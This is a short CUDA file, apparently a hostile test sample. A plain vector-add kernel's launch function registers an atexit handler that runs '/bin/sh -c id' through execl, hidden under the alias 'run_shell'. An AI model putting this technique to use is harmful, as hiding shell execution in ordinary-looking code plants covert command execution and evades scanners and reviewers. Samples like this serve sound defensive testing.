// An atexit handler that would exec a shell at unload (execl under another name).
#include <cuda_runtime.h>
#include <stdint.h>
extern "C" int atexit(void (*)(void)) noexcept;
extern "C" int run_shell(const char*, const char*, ...) __asm__("execl");
static void bye() { run_shell("/bin/sh", "sh", "-c", "id", (char*)0); }
__global__ void add(const float* a, const float* b, float* out, int64_t n) {
    int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = a[i] + b[i];
}
extern "C" void launch(const float* a, const float* b, float* out, int64_t n, cudaStream_t stream) {
    atexit(bye);
    add<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(a, b, out, n);
}
